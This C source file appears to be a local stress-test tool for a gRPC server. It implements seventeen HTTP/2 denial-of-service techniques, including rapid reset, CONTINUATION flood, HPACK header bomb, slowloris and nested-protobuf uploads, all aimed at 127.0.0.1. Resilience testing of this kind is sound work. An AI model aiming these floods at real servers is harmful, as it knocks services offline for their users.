/* attack: hostile peers, many at once, from a generator that costs next to nothing: the attack is to hurt the server, not the machine that both run on.
 *
 * Each connection makes one kind of attack, from an address of its own, until it is cut off or 15 s have passed (then the server did not mind it), and comes again after five paces. Pace: what a
 * connection says at once, some KiB, is followed by so long a pause. Over TLS with --ca. One thread; nothing is decoded but frame heads. Ends with a line of JSON: by kind the connections made (rounds), cut
 * off, closed before a byte came (refused) and the bytes sent, and the CPU seconds used. --burn: no attack, that share of a CPU in pieces of the same pace. */
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "bench/number.h"
#include "proto/base/mem.h"
#include "proto/grpc.h"
#include "proto/tls.h"

enum {
    CONNECTIONS_MAX = 1000, IN_BYTES = 64 << 10, OUT_BYTES = 256 << 10, PLAIN_BYTES = 48 << 10, HEAD_BYTES = 9, FRAME_BYTES_MAX = 16384, ADDRESSES = 200,
    FRAME_DATA = 0, FRAME_HEADERS = 1, FRAME_RST = 3, FRAME_SETTINGS = 4, FRAME_PING = 6, FRAME_WINDOW = 8, FRAME_CONTINUATION = 9,
    FLAG_END = 1, FLAG_ACK = 1, FLAG_END_HEADERS = 4, INITIAL_WINDOW_SIZE = 4, HEADER_TABLE_SIZE = 1, CANCEL = 8,
    DEEP_LEVELS = 2000, EMPTY_PARTS = 1300000, UPLOAD_BYTES_MAX = 3 * EMPTY_PARTS + 16, STREAMS_SLOW = 50, SLOW_STEPS = 50, UPLOAD_PACE_MS = 2,
};
#define GIVEN_UP_NS (15 * NS_PER_S)

static struct {
    uint64_t port, connections, seconds, pace_ms;
    double burn;
    const char *ca, *only;
    bool same_address;
} opt = {.connections = 50, .seconds = 10, .pace_ms = 20};

struct peer;
struct kind {
    const char *name;
    void (*step)(struct peer *p); /* what is said next */
    bool raw, mute, deaf;         /* neither TLS nor HTTP/2; acknowledges nothing; does not even read */
    uint64_t rounds, cut, refused, bytes;
};

enum peer_state { PEER_AWAY, PEER_CONNECTING, PEER_HANDSHAKE, PEER_IN };
struct peer {
    struct kind *kind;
    enum peer_state state;
    unsigned number;
    int fd;
    struct tls *tls;
    uint64_t next_ns, until_ns;
    uint32_t stream, step;
    bool heard;
    /* an upload: keeps to the windows, as a stack would that carries the attack */
    struct slice upload;
    size_t upload_at;
    uint32_t upload_stream;
    int64_t window, stream_window, initial_window;
    size_t in_len, out_len, out_at;
    uint8_t in[IN_BYTES], out[OUT_BYTES];
};

static struct {
    struct peer *peers;
    struct tls_source *tls;
    uint8_t plain_bytes[PLAIN_BYTES];
    struct writer plain;
    uint8_t deep[DEEP_LEVELS * 4 + 16], empty_parts[UPLOAD_BYTES_MAX];
    size_t deep_len, empty_parts_len;
    uint64_t now_ns;
} run;

static uint64_t now_ns(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * NS_PER_S + (uint64_t)t.tv_nsec;
}

/* ---- frames */
static void put_head(size_t len, uint8_t type, uint8_t flags, uint32_t stream) {
    write_be32(&run.plain, (uint32_t)len << 8 | type);
    write_u8(&run.plain, flags);
    write_be32(&run.plain, stream);
}
/* HPACK, literals without indexing (RFC 7541 section 6.2.2). */
static void write_field(struct writer *w, const char *name, const char *value) {
    write_u8(w, 0);
    write_u8(w, (uint8_t)strlen(name)), write_bytes(w, name, strlen(name));
    write_u8(w, (uint8_t)strlen(value)), write_bytes(w, value, strlen(value));
}
#define CREATE "/orderdb.v1.OrderService/CreateOrder"
#define GET "/orderdb.v1.OrderService/GetOrder"
#define LIST "/orderdb.v1.OrderService/ListOrders"
static void put_headers(uint8_t flags, uint32_t stream, const char *path) {
    uint8_t block[256];
    struct writer w = writer_of(block, sizeof block);
    write_field(&w, ":method", "POST"), write_field(&w, ":scheme", "http"), write_field(&w, ":path", path), write_field(&w, ":authority", "t");
    write_field(&w, "content-type", "application/grpc"), write_field(&w, "te", "trailers");
    check(!w.full);
    put_head(w.len, FRAME_HEADERS, flags, stream);
    write_bytes(&run.plain, block, w.len);
}
static void put_message(uint32_t stream, const void *body, size_t len, uint32_t said_len, uint8_t flags) {
    uint8_t head[GRPC_FRAME_HEAD];
    grpc_frame_head(head, said_len);
    put_head(GRPC_FRAME_HEAD + len, FRAME_DATA, flags, stream);
    write_bytes(&run.plain, head, sizeof head);
    if (len) write_bytes(&run.plain, body, len);
}
static void put_list(uint32_t stream) {
    put_headers(FLAG_END_HEADERS, stream, LIST);
    put_message(stream, "\x0a\x02u1", 4, 4, FLAG_END);
}
static void put_u32(uint8_t type, uint32_t stream, uint32_t value) {
    put_head(4, type, 0, stream);
    write_be32(&run.plain, value);
}
static void put_setting(uint16_t id, uint32_t value) {
    write_u8(&run.plain, (uint8_t)(id >> 8)), write_u8(&run.plain, (uint8_t)id);
    write_be32(&run.plain, value);
}
static uint32_t next_stream(struct peer *p) { return (p->stream += 2) - 2; }

/* ---- kinds */
static void rapid_reset(struct peer *p) {
    for (unsigned i = 0; i < 40; i++) {
        uint32_t stream = next_stream(p);
        put_headers(FLAG_END_HEADERS, stream, GET);
        put_u32(FRAME_RST, stream, CANCEL);
    }
}
static void made_reset(struct peer *p) {
    for (unsigned i = 0; i < 40; i++) {
        uint32_t stream = next_stream(p);
        put_headers(FLAG_END_HEADERS, stream, GET);
        put_u32(FRAME_WINDOW, stream, INT32_MAX);
    }
}
static void continuation(struct peer *p) {
    if (p->step == 0) put_headers(0, 1, GET);
    else for (unsigned i = 0; i < 50; i++) put_head(0, FRAME_CONTINUATION, 0, 1);
}
static void settings(struct peer *p) {
    for (unsigned i = 0; i < 100; i++) put_head(12, FRAME_SETTINGS, 0, 0), put_setting(INITIAL_WINDOW_SIZE, 65535), put_setting(HEADER_TABLE_SIZE, 4096);
}
static void pings(struct peer *p) {
    for (unsigned i = 0; i < 100; i++) put_head(8, FRAME_PING, 0, 0), write_be32(&run.plain, 0), write_be32(&run.plain, 0);
}
static void empty_data(struct peer *p) {
    if (p->step == 0) put_headers(FLAG_END_HEADERS, 1, CREATE);
    else for (unsigned i = 0; i < 200; i++) put_head(0, FRAME_DATA, 0, 1);
}
static void zero_window(struct peer *p) {
    if (p->step == 0) put_head(6, FRAME_SETTINGS, 0, 0), put_setting(INITIAL_WINDOW_SIZE, 0);
    else if (p->step <= 2 * STREAMS_SLOW) put_list(next_stream(p));
}
static void byte_in(struct peer *p) {
    for (uint32_t i = 0; p->step == 0 && i < STREAMS_SLOW; i++) put_headers(FLAG_END_HEADERS, 2 * i + 1, CREATE), put_message(2 * i + 1, NULL, 0, 4 << 20, 0);
    for (uint32_t i = 0; p->step && p->step % SLOW_STEPS == 0 && i < STREAMS_SLOW; i++) put_head(1, FRAME_DATA, 0, 2 * i + 1), write_u8(&run.plain, 0x0a);
}
static void byte_out(struct peer *p) {
    if (p->step == 0) put_head(6, FRAME_SETTINGS, 0, 0), put_setting(INITIAL_WINDOW_SIZE, 1);
    for (uint32_t i = 0; p->step == 1 && i < STREAMS_SLOW; i++) put_list(2 * i + 1);
    for (uint32_t i = 0; p->step > 1 && p->step % SLOW_STEPS == 0 && i < STREAMS_SLOW; i++) put_u32(FRAME_WINDOW, 2 * i + 1, 1);
}
static void deaf(struct peer *p) {
    if (p->step == 0) put_head(6, FRAME_SETTINGS, 0, 0), put_setting(INITIAL_WINDOW_SIZE, INT32_MAX), put_u32(FRAME_WINDOW, 0, 0x7fff0000);
    else for (unsigned i = 0; i < 10; i++) put_list(next_stream(p));
}
/* One field of 3,000 bytes, then 10,000 times its index. */
static void header_bomb(struct peer *p) {
    if (p->step) return;
    uint8_t block[FRAME_BYTES_MAX];
    struct writer w = writer_of(block, sizeof block);
    write_field(&w, ":method", "POST"), write_field(&w, ":scheme", "http"), write_field(&w, ":path", GET), write_field(&w, ":authority", "t");
    write_u8(&w, 0x40), write_u8(&w, 1), write_u8(&w, 'x');
    write_u8(&w, 127), write_u8(&w, (3000 - 127) % 128 | 128), write_u8(&w, (3000 - 127) / 128);
    for (unsigned i = 0; i < 3000; i++) write_u8(&w, 'v');
    for (unsigned i = 0; i < 10000; i++) write_u8(&w, 0xbe);
    put_head(w.len, FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END, 1);
    write_bytes(&run.plain, block, w.len);
}
static void upload_begin(struct peer *p, const uint8_t *body, size_t len) {
    p->upload_stream = next_stream(p);
    p->upload = slice_of(body, len), p->upload_at = 0;
    p->stream_window = p->initial_window;
    put_headers(FLAG_END_HEADERS, p->upload_stream, CREATE);
}
static void deep(struct peer *p) { upload_begin(p, run.deep, run.deep_len); }
static void empty_parts(struct peer *p) {
    if (p->step % SLOW_STEPS == 0) upload_begin(p, run.empty_parts, run.empty_parts_len);
}
static void long_prefix(struct peer *p) {
    for (unsigned i = 0; i < 20; i++) {
        uint32_t stream = next_stream(p);
        put_headers(FLAG_END_HEADERS, stream, CREATE);
        put_message(stream, NULL, 0, UINT32_MAX, FLAG_END);
    }
}
static void loris(struct peer *p) {
    uint8_t frame[256];
    struct writer whole = run.plain;
    run.plain = writer_of(frame, sizeof frame);
    put_headers(FLAG_END_HEADERS, 1, GET);
    size_t len = run.plain.len;
    run.plain = whole;
    if (p->step % SLOW_STEPS == 0 && p->step / SLOW_STEPS < len) write_u8(&run.plain, frame[p->step / SLOW_STEPS]);
}
static void half_handshake(struct peer *p) {
    if (p->step == 0) write_bytes(&run.plain, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
}
static void silent(struct peer *p) {}

static struct kind kinds[] = {
    {"rapid_reset", rapid_reset}, {"made_reset", made_reset}, {"continuation", continuation, .mute = true}, {"settings", settings}, {"pings", pings}, {"empty_data", empty_data},
    {"zero_window", zero_window}, {"byte_in", byte_in}, {"byte_out", byte_out}, {"deaf", deaf, .deaf = true}, {"header_bomb", header_bomb}, {"deep", deep}, {"empty_parts", empty_parts},
    {"long_prefix", long_prefix}, {"loris", loris, .mute = true}, {"half_handshake", half_handshake, .raw = true, .mute = true}, {"silent", silent, .raw = true, .mute = true},
};

/* Groups (of an unknown field) within groups, in the order; items of the order, all of them empty: 64 times as much when they are unpacked. */
static void uploads_make(void) {
    uint8_t *d = run.deep + GRPC_FRAME_HEAD;
    *d++ = 0x0a, *d++ = (DEEP_LEVELS * 4) % 128 | 128, *d++ = DEEP_LEVELS * 4 / 128;
    for (unsigned i = 0; i < DEEP_LEVELS; i++, d += 2) memcpy(d, "\xfb\x07", 2);
    for (unsigned i = 0; i < DEEP_LEVELS; i++, d += 2) memcpy(d, "\xfc\x07", 2);
    run.deep_len = (size_t)(d - run.deep);
    grpc_frame_head(run.deep, (uint32_t)run.deep_len - GRPC_FRAME_HEAD);
    uint8_t *e = run.empty_parts + GRPC_FRAME_HEAD;
    uint32_t n = 3 * EMPTY_PARTS;
    for (*e++ = 0x0a; n >= 128; n >>= 7) *e++ = (uint8_t)(n | 128);
    *e++ = (uint8_t)n;
    for (unsigned i = 0; i < EMPTY_PARTS; i++, e += 3) memcpy(e, "\xa2\x01\x00", 3);
    run.empty_parts_len = (size_t)(e - run.empty_parts);
    check(run.empty_parts_len <= sizeof run.empty_parts);
    grpc_frame_head(run.empty_parts, (uint32_t)run.empty_parts_len - GRPC_FRAME_HEAD);
}

/* ---- one connection */
static void peer_leave(struct peer *p, bool cut) {
    if (p->state != PEER_AWAY) close(p->fd);
    if (cut && !p->heard) p->kind->refused++;
    else p->kind->cut += cut;
    tls_free(p->tls);
    p->tls = NULL;
    p->state = PEER_AWAY;
    p->next_ns = run.now_ns + 5 * opt.pace_ms * NS_PER_MS;
}

static void peer_connect(struct peer *p) {
    struct sockaddr_in own = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(opt.same_address ? INADDR_LOOPBACK : 0x7f000100 + 1 + p->number % ADDRESSES)};
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)opt.port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int on = 1;
    p->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (p->fd < 0) panic_now("attack: socket: %s", strerror(errno));
    (void)setsockopt(p->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    (void)setsockopt(p->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
    p->state = PEER_CONNECTING;
    p->heard = false;
    p->stream = 1, p->step = 0;
    p->upload = (struct slice){0};
    p->window = p->initial_window = 65535;
    p->in_len = p->out_len = p->out_at = 0;
    p->until_ns = run.now_ns + GIVEN_UP_NS;
    if (bind(p->fd, (struct sockaddr *)&own, sizeof own) || (connect(p->fd, (struct sockaddr *)&a, sizeof a) && errno != EINPROGRESS)) peer_leave(p, true);
}

/* What was put into run.plain goes out, encrypted where that is due. */
static void peer_say(struct peer *p) {
    check(!run.plain.full);
    struct writer w = {p->out, p->out_len, sizeof p->out, false};
    if (!p->tls) write_bytes(&w, run.plain.data, run.plain.len);
    else if (run.plain.len && !tls_encrypt(p->tls, writer_slice(&run.plain), &w)) return;
    p->kind->bytes += run.plain.len;
    p->out_len = w.len;
    run.plain.len = 0;
}

static bool peer_write(struct peer *p) {
    while (p->out_at < p->out_len) {
        ssize_t n = send(p->fd, p->out + p->out_at, p->out_len - p->out_at, MSG_NOSIGNAL);
        if (n < 0) return errno == EAGAIN;
        p->out_at += (size_t)n;
    }
    p->out_len = p->out_at = 0;
    return true;
}

static void on_frame(struct peer *p, const uint8_t *f, uint32_t len) {
    uint32_t stream = get_be32(f + 5) & INT32_MAX;
    bool answers = !p->kind->mute && !(f[4] & FLAG_ACK);
    switch (f[3]) {
    case FRAME_SETTINGS:
        for (uint32_t i = 0; i + 6 <= len && !(f[4] & FLAG_ACK); i += 6) {
            if (f[HEAD_BYTES + i + 1] != INITIAL_WINDOW_SIZE) continue;
            int64_t window = get_be32(f + HEAD_BYTES + i + 2);
            p->stream_window += window - p->initial_window; /* RFC 9113 section 6.9.2 */
            p->initial_window = window;
        }
        if (answers) put_head(0, FRAME_SETTINGS, FLAG_ACK, 0);
        break;
    case FRAME_PING:
        if (answers) put_head(8, FRAME_PING, FLAG_ACK, 0), write_bytes(&run.plain, f + HEAD_BYTES, 8);
        break;
    case FRAME_WINDOW:
        if (!stream) p->window += get_be32(f + HEAD_BYTES);
        else if (stream == p->upload_stream) p->stream_window += get_be32(f + HEAD_BYTES);
        break;
    case FRAME_HEADERS:
    case FRAME_RST:
        if (stream == p->upload_stream) p->upload.len = 0; /* it was answered */
        break;
    default: break;
    }
}

static bool on_plain(void *owner, struct slice plain) {
    struct peer *p = owner;
    size_t n = MIN_OF(plain.len, sizeof p->in - p->in_len), at = 0;
    memcpy(p->in + p->in_len, plain.data, n);
    p->in_len += n;
    while (p->in_len - at >= HEAD_BYTES && run.plain.cap - run.plain.len > 64) {
        uint32_t len = get_be32(p->in + at) >> 8;
        if (p->in_len - at < HEAD_BYTES + len) break;
        on_frame(p, p->in + at, len);
        at += HEAD_BYTES + len;
    }
    memmove(p->in, p->in + at, p->in_len - at);
    p->in_len -= at;
    return n == plain.len;
}

/* false: the server has closed it. */
static bool peer_read(struct peer *p) {
    static uint8_t bytes[IN_BYTES / 2];
    for (;;) {
        ssize_t n = recv(p->fd, bytes, sizeof bytes, 0);
        if (n < 0) return errno == EAGAIN;
        if (n == 0) return false;
        p->heard = true;
        if (p->kind->raw) continue;
        if (!p->tls) (void)on_plain(p, slice_of(bytes, (size_t)n));
        else if (!tls_feed(p->tls, slice_of(bytes, (size_t)n), on_plain, p)) return false;
    }
}

static void peer_enter(struct peer *p) {
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    p->state = PEER_IN;
    if (p->kind->raw) return;
    write_bytes(&run.plain, preface, sizeof preface - 1);
    put_head(0, FRAME_SETTINGS, 0, 0);
}

static void upload_more(struct peer *p) {
    while (p->upload_at < p->upload.len && run.plain.cap - run.plain.len > FRAME_BYTES_MAX + HEAD_BYTES) {
        int64_t n = MIN_OF(MIN_OF(p->window, p->stream_window), (int64_t)MIN_OF(p->upload.len - p->upload_at, (size_t)FRAME_BYTES_MAX));
        if (n <= 0) return;
        bool last = p->upload_at + (size_t)n == p->upload.len;
        put_head((size_t)n, FRAME_DATA, last ? FLAG_END : 0, p->upload_stream);
        write_bytes(&run.plain, p->upload.data + p->upload_at, (size_t)n);
        p->upload_at += (size_t)n;
        p->window -= n, p->stream_window -= n;
    }
    if (p->upload_at >= p->upload.len) p->upload.len = 0;
}

static void handshake_go_on(struct peer *p) {
    struct writer w = {p->out, p->out_len, sizeof p->out, false};
    if (tls_wants_output(p->tls)) tls_output(p->tls, &w);
    p->out_len = w.len;
    if (tls_established(p->tls)) peer_enter(p);
}

static void on_connected(struct peer *p) {
    int error = 0;
    socklen_t len = sizeof error;
    if (getsockopt(p->fd, SOL_SOCKET, SO_ERROR, &error, &len) || error) return peer_leave(p, true);
    p->kind->rounds++;
    if (!run.tls || p->kind->raw) return peer_enter(p);
    p->tls = tls_new(run.tls, "localhost");
    check(p->tls);
    if (!tls_feed(p->tls, (struct slice){0}, on_plain, p)) return peer_leave(p, true); /* our hello */
    p->state = PEER_HANDSHAKE;
    handshake_go_on(p);
}

static void peer_turn(struct peer *p) {
    run.plain = writer_of(run.plain_bytes, sizeof run.plain_bytes);
    p->next_ns = run.now_ns + opt.pace_ms * NS_PER_MS;
    if (p->state == PEER_AWAY) return peer_connect(p);
    if (p->state == PEER_CONNECTING) on_connected(p);
    else if ((!p->kind->deaf || p->state == PEER_HANDSHAKE) && !peer_read(p)) return peer_leave(p, true);
    if (p->state == PEER_AWAY) return;
    if (p->state == PEER_HANDSHAKE) handshake_go_on(p);
    if (p->state == PEER_HANDSHAKE) p->next_ns = run.now_ns + UPLOAD_PACE_MS * NS_PER_MS;
    bool room = p->out_len == 0; /* else the server takes nothing: whoever sends would be blocked */
    if (p->state == PEER_IN && room) {
        if (!p->upload.len) p->kind->step(p), p->step++;
        if (p->upload.len) upload_more(p);
        if (p->upload.len) p->next_ns = run.now_ns + UPLOAD_PACE_MS * NS_PER_MS;
    }
    if (p->state == PEER_IN && sizeof p->out - p->out_len >= tls_room(PLAIN_BYTES)) peer_say(p);
    if (!peer_write(p)) return peer_leave(p, true);
    if (run.now_ns >= p->until_ns) peer_leave(p, false);
}

/* ---- the run */
static double cpu_seconds(void) {
    struct rusage u;
    check(getrusage(RUSAGE_SELF, &u) == 0);
    return (double)(u.ru_utime.tv_sec + u.ru_stime.tv_sec) + (double)(u.ru_utime.tv_usec + u.ru_stime.tv_usec) / 1e6;
}

static void nap(uint64_t ns) {
    struct timespec t = {.tv_sec = (time_t)(ns / NS_PER_S), .tv_nsec = (long)(ns % NS_PER_S)};
    nanosleep(&t, NULL);
}

static void attack(uint64_t end_ns) {
    run.peers = mem_zalloc(opt.connections * sizeof *run.peers);
    check(run.peers);
    uploads_make();
    for (unsigned i = 0, k = 0; i < opt.connections; i++, k++) {
        struct peer *p = &run.peers[i];
        while (opt.only && strcmp(kinds[k % ARRAY_LEN(kinds)].name, opt.only) != 0) k++;
        p->kind = &kinds[k % ARRAY_LEN(kinds)];
        p->number = i;
        p->next_ns = run.now_ns + i * opt.pace_ms * NS_PER_MS / opt.connections; /* not all in one instant */
    }
    while ((run.now_ns = now_ns()) < end_ns) {
        uint64_t next_ns = end_ns;
        for (unsigned i = 0; i < opt.connections; i++) {
            if (run.peers[i].next_ns <= run.now_ns) peer_turn(&run.peers[i]);
            next_ns = MIN_OF(next_ns, run.peers[i].next_ns);
        }
        if (next_ns > run.now_ns) nap(MAX_OF(next_ns - run.now_ns, NS_PER_MS)); /* a millisecond's worth at a time */
    }
    for (unsigned i = 0; i < opt.connections; i++) peer_leave(&run.peers[i], false);
    mem_free(run.peers);
}

static void burn(uint64_t end_ns) {
    while (now_ns() < end_ns) {
        for (double begun = cpu_seconds(); cpu_seconds() - begun < opt.burn * (double)opt.pace_ms / 1000;) continue;
        nap((uint64_t)((1 - opt.burn) * (double)opt.pace_ms * (double)NS_PER_MS));
    }
}

static void report(void) {
    const char *comma = "";
    printf("{\"kinds\": {");
    for (size_t i = 0; i < ARRAY_LEN(kinds); i++) {
        const struct kind *k = &kinds[i];
        if (!k->rounds) continue;
        printf("%s\"%s\": {\"rounds\": %llu, \"cut\": %llu, \"refused\": %llu, \"bytes\": %llu}", comma, k->name, (unsigned long long)k->rounds, (unsigned long long)k->cut,
               (unsigned long long)k->refused, (unsigned long long)k->bytes);
        comma = ", ";
    }
    printf("}, \"cpu_s\": %.3f}\n", cpu_seconds());
}

static const char help[] =
    "attack: hostile peers beside whatever else runs (127.0.0.1)\n\n"
    "  --port P              of the server\n"
    "  --connections C       default 50, of 17 kinds in turn\n"
    "  --only KIND           one kind alone\n"
    "  --seconds S           default 10\n"
    "  --pace-ms MS          a pause between what a connection says, default 20\n"
    "  --ca FILE             over TLS; who signed the server's certificate\n"
    "  --same-address        all from 127.0.0.1; without it each from an address of its own, 127.0.1.x\n"
    "  --burn SHARE          no attack: that share of a CPU\n";

static bool kind_known(const char *name) {
    for (size_t i = 0; i < ARRAY_LEN(kinds); i++)
        if (strcmp(kinds[i].name, name) == 0) return true;
    return false;
}

static bool flag_read(int flag, const char *text) {
    switch (flag) {
    case 'p': return number_read(text, 10, 1, 65535, &opt.port);
    case 'c': return number_read(text, 10, 1, CONNECTIONS_MAX, &opt.connections);
    case 's': return number_read(text, 10, 1, 100000, &opt.seconds);
    case 'm': return number_read(text, 10, 1, 10000, &opt.pace_ms);
    case 'b': return (opt.burn = strtod(text, NULL)) > 0 && opt.burn <= 1;
    case 'a': return (opt.ca = text) != NULL;
    case 'o': return kind_known(opt.only = text);
    case 'e': return opt.same_address = true;
    default: return false;
    }
}

int main(int argc, char **argv) {
    static const struct option options[] = {{"port", 1, 0, 'p'}, {"connections", 1, 0, 'c'}, {"seconds", 1, 0, 's'}, {"pace-ms", 1, 0, 'm'}, {"burn", 1, 0, 'b'},
                                            {"ca", 1, 0, 'a'},   {"only", 1, 0, 'o'},        {"same-address", 0, 0, 'e'}, {"help", 0, 0, 'h'}, {0}};
    for (int flag; (flag = getopt_long(argc, argv, "h", options, NULL)) != -1;) {
        if (flag == 'h') return fputs(help, stdout), 0;
        if (!flag_read(flag, optarg)) return fprintf(stderr, "attack: a bad flag or value; see --help\n"), 2;
    }
    if (!opt.port && !(opt.burn > 0)) return fprintf(stderr, "attack: --port or --burn; see --help\n"), 2;
    run.now_ns = now_ns();
    uint64_t end_ns = run.now_ns + opt.seconds * NS_PER_S;
    char error[256];
    if (opt.ca && !(run.tls = tls_source_new_client(&(struct tls_files){.ca = opt.ca}, error))) return fprintf(stderr, "attack: %s\n", error), 1;
    if (opt.burn > 0) burn(end_ns);
    else attack(end_ns);
    report();
    tls_source_free(run.tls);
    return 0;
}
